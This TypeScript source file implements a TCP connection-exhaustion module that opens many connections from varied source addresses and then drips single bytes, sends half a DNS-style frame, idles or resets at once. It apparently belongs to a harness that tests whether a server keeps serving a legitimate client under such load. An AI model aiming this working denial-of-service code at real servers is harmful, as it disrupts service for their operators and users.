/** Attacks by TCP: connections that say too little, nothing, or go at once. */
import { createConnection, type Socket } from 'node:net';
import type { AttackResult, RunningAttack } from './flood.ts';
import { addressText, type Sources } from './sources.ts';

/**
 * drip: a byte every DRIP_MS. half: half a message, then silence. idle: silence. churn: gone as
 * soon as there.
 */
export type Behaviour = 'drip' | 'half' | 'idle' | 'churn';

export interface CrowdOptions {
  readonly behaviour: Behaviour;
  readonly sources: Sources;
  /** Connections it tries to have at once. */
  readonly most: number;
  /** Connections it tries to open per second. */
  readonly perSecond: number;
}

const DRIP_MS = 500;
/** Connections begun in one step at most, so that the proven client has its turn. */
const OPENS_PER_STEP = 4;
/** A query of 40 bytes is announced. */
const FRAME = Buffer.from([0, 40, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18]);
const BYTE = Buffer.from([0]);
/** Bytes dripped in one step at most. */
const DRIPS_PER_STEP = 64;

export class Crowd implements RunningAttack {
  readonly #host: string;
  readonly #port: number;
  readonly #options: CrowdOptions;
  readonly #open = new Set<Socket>();
  #drips: Socket[] = [];
  #nextDrip = 0;
  #began = Number.NaN;
  #count = 0;
  #skipped = 0;
  #isStopped = false;

  constructor(host: string, port: number, options: CrowdOptions) {
    this.#host = host;
    this.#port = port;
    this.#options = options;
  }

  step(nowMs: number): void {
    const { behaviour, most, perSecond } = this.#options;
    if (Number.isNaN(this.#began)) this.#began = nowMs;
    const wanted = Math.floor(((nowMs - this.#began) * perSecond) / 1000);
    let due = wanted - this.#count - this.#skipped;
    if (due > OPENS_PER_STEP) {
      this.#skipped += due - OPENS_PER_STEP;
      due = OPENS_PER_STEP;
    }
    for (; due > 0; due--) {
      if (this.#open.size < most) this.#connect();
      else this.#skipped++;
    }
    if (behaviour === 'drip') this.#drip(nowMs);
  }

  drain(): void {
    // Answers are thrown away as they come.
  }

  result(): AttackResult {
    return { units: this.#count, amplification: null, missed: 0 };
  }

  stop(): void {
    this.#isStopped = true;
    for (const socket of this.#open) socket.resetAndDestroy();
  }

  #connect(): void {
    const { behaviour, sources } = this.#options;
    const localAddress = addressText(sources(this.#count++));
    const socket = createConnection({ host: this.#host, port: this.#port, localAddress });
    this.#open.add(socket);
    socket.on('close', () => this.#open.delete(socket));
    socket.on('error', () => socket.destroy());
    socket.on('data', () => undefined);
    socket.on('connect', () => {
      if (behaviour === 'churn' || this.#isStopped) socket.resetAndDestroy();
      else if (behaviour !== 'idle') socket.write(FRAME);
    });
  }

  #drip(nowMs: number): void {
    if (this.#drips.length === 0 && nowMs >= this.#nextDrip) {
      this.#nextDrip = nowMs + DRIP_MS;
      this.#drips = [...this.#open];
    }
    for (const socket of this.#drips.splice(-DRIPS_PER_STEP)) {
      if (socket.writable && !socket.connecting) socket.write(BYTE);
    }
  }
}
